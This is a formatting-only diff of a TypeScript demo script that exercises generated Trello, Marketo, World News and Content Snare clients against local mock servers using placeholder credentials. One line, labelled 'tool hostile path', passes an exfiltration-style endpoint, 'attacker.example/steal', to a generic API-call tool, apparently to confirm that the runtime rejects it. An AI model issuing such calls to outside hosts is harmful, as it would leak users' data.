@@ -16,10 +16,16 @@ import "../generated/marketo/mock.js";
 import "../generated/trello/mock.js";
 import "../generated/worldnews/mock.js";
 import { executeToolByName } from "../runtime/tools/index.js";
-import { createTriggerRouter, createWebhookReceiver, ensureWebhook, type TriggerEvent } from "../runtime/triggers/index.js";
+import {
+  createTriggerRouter,
+  createWebhookReceiver,
+  ensureWebhook,
+  type TriggerEvent,
+} from "../runtime/triggers/index.js";
 
 const running: Array<{ close(): Promise<void> }> = [];
-const show = (label: string, value: unknown) => console.log(`  ${label.padEnd(22)} ${JSON.stringify(value).slice(0, 150)}`);
+const show = (label: string, value: unknown) =>
+  console.log(`  ${label.padEnd(22)} ${JSON.stringify(value).slice(0, 150)}`);
 const WEBHOOK_SECRET = "demo-app-secret";
 
 async function mock(service: string, options = {}): Promise<RunningMock> {
@@ -32,12 +38,18 @@ try {
   console.log("Trello — behavioural mock, key + token");
   const trelloMock = await mock("trello", { webhookSecret: WEBHOOK_SECRET });
   // Each mock accepts the default credentials its spec declares (x-stepforge.mock.credentials).
-  const trelloFields = { apiKey: "0123456789abcdef0123456789abcdef", token: "ATTAmocktoken0123456789abcdef0123456789abcdef" };
+  const trelloFields = {
+    apiKey: "0123456789abcdef0123456789abcdef",
+    token: "ATTAmocktoken0123456789abcdef0123456789abcdef",
+  };
   const trello = new TrelloClient({ connection: { name: "demo", fields: trelloFields }, baseUrl: trelloMock.url });
   const [board] = await trello.getMemberBoards({ params: { path: { id: "me" } } });
   // Lists come back in board order (by `pos`): To Do, Doing, Done.
   const lists = await trello.getBoardLists({ params: { path: { id: board!.id } } });
-  show("getBoardLists", lists.map((l) => l.name));
+  show(
+    "getBoardLists",
+    lists.map((l) => l.name),
+  );
   const todo = lists.find((l) => l.name === "To Do") ?? lists[0];
   const done = lists.find((l) => l.name === "Done") ?? lists.at(-1);
 
@@ -49,8 +61,17 @@ try {
   await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
   running.push({ close: () => new Promise<void>((r) => server.close(() => r())) });
   const callbackUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hooks/trello`;
-  const receiver = createWebhookReceiver({ secret: WEBHOOK_SECRET, callbackUrl, delivery: triggers.delivery, onDelivery: (p) => void events.push(...router.route(p)) });
-  await ensureWebhook(triggers.delivery, (id, init) => trello.core.call(id, init), { modelId: board!.id, callbackUrl, connectionFields: trelloFields });
+  const receiver = createWebhookReceiver({
+    secret: WEBHOOK_SECRET,
+    callbackUrl,
+    delivery: triggers.delivery,
+    onDelivery: (p) => void events.push(...router.route(p)),
+  });
+  await ensureWebhook(triggers.delivery, (id, init) => trello.core.call(id, init), {
+    modelId: board!.id,
+    callbackUrl,
+    connectionFields: trelloFields,
+  });
 
   const card = await trello.createCard({ body: { idList: todo!.id, name: "Write the quarterly report", pos: "top" } });
   show("createCard", { id: card.id, name: card.name });
@@ -65,32 +86,71 @@ try {
   if (landed !== "Done") throw new Error(`demo: the card should have moved to Done, it is in ${landed ?? "no list"}`);
   const wrong = await executeToolByName(trelloTools, "trello_create_card", { name: 42 }, context);
   show("tool bad input", wrong.ok ? wrong : { kind: wrong.error.kind, fields: wrong.error.fields });
-  const hostile = await executeToolByName(trelloTools, "trello_api_call", { method: "GET", endpoint: "https://attacker.example/steal", query_parameters: null, body: null }, context);
-  show("tool hostile path", hostile.ok ? hostile : { kind: hostile.error.kind, message: hostile.error.message.slice(0, 80) });
+  const hostile = await executeToolByName(
+    trelloTools,
+    "trello_api_call",
+    { method: "GET", endpoint: "https://attacker.example/steal", query_parameters: null, body: null },
+    context,
+  );
+  show(
+    "tool hostile path",
+    hostile.ok ? hostile : { kind: hostile.error.kind, message: hostile.error.message.slice(0, 80) },
+  );
   for (let i = 0; i < 50 && events.length === 0; i++) await new Promise((r) => setTimeout(r, 10));
-  show("trigger card_moved", events.map((e) => ({ card: e.refs.card?.id, to: e.refs.list?.id })));
+  show(
+    "trigger card_moved",
+    events.map((e) => ({ card: e.refs.card?.id, to: e.refs.list?.id })),
+  );
 
   console.log("Marketo — OAuth client credentials, token issued by the mock's identity endpoint");
   const marketoMock = await mock("marketo");
   const marketo = new MarketoClient({
-    connection: { name: "demo", fields: { endpoint: "https://123-ABC-456.mktorest.com/rest", clientId: "5a8e6a0d-3c1f-4b8e-9d2a-7f4c1e0b9a61", clientSecret: "mock-client-secret-0123456789abcdef" } },
+    connection: {
+      name: "demo",
+      fields: {
+        endpoint: "https://123-ABC-456.mktorest.com/rest",
+        clientId: "5a8e6a0d-3c1f-4b8e-9d2a-7f4c1e0b9a61",
+        clientSecret: "mock-client-secret-0123456789abcdef",
+      },
+    },
     baseUrl: marketoMock.url,
   });
-  const synced = await marketo.syncLeads({ body: { action: "createOrUpdate", lookupField: "email", input: [{ email: "ada@example.com", firstName: "Ada" }] } });
+  const synced = await marketo.syncLeads({
+    body: { action: "createOrUpdate", lookupField: "email", input: [{ email: "ada@example.com", firstName: "Ada" }] },
+  });
   show("syncLeads", synced.result);
-  const leads = await marketo.getLeads({ params: { query: { filterType: "email", filterValues: ["ada@example.com"] } } });
-  show("getLeads", leads.result?.map((l) => ({ id: l.id, email: l.email })));
+  const leads = await marketo.getLeads({
+    params: { query: { filterType: "email", filterValues: ["ada@example.com"] } },
+  });
+  show(
+    "getLeads",
+    leads.result?.map((l) => ({ id: l.id, email: l.email })),
+  );
 
   console.log("World News API — API key");
   const newsMock = await mock("worldnews");
-  const news = new WorldnewsClient({ connection: { name: "demo", fields: { apiKey: "mock-worldnews-api-key-0123456789" } }, baseUrl: newsMock.url });
+  const news = new WorldnewsClient({
+    connection: { name: "demo", fields: { apiKey: "mock-worldnews-api-key-0123456789" } },
+    baseUrl: newsMock.url,
+  });
   const found = await news.searchNews({ params: { query: { text: "electric", language: "en", number: 2 } } });
-  show("searchNews", found.news?.map((a) => a.title));
+  show(
+    "searchNews",
+    found.news?.map((a) => a.title),
+  );
 
   console.log("Content Snare — OAuth authorization code (bearer)");
   const snareMock = await mock("contentsnare");
   const snare = new ContentsnareClient({
-    connection: { name: "demo", fields: { clientId: "mock-client-id", clientSecret: "mock-client-secret", accessToken: "mock-access-token", refreshToken: "mock-refresh-token" } },
+    connection: {
+      name: "demo",
+      fields: {
+        clientId: "mock-client-id",
+        clientSecret: "mock-client-secret",
+        accessToken: "mock-access-token",
+        refreshToken: "mock-refresh-token",
+      },
+    },
     baseUrl: snareMock.url,
   });
   const client = await snare.createClient({ body: { email: "jo@example.com", full_name: "Jo Bloggs" } });
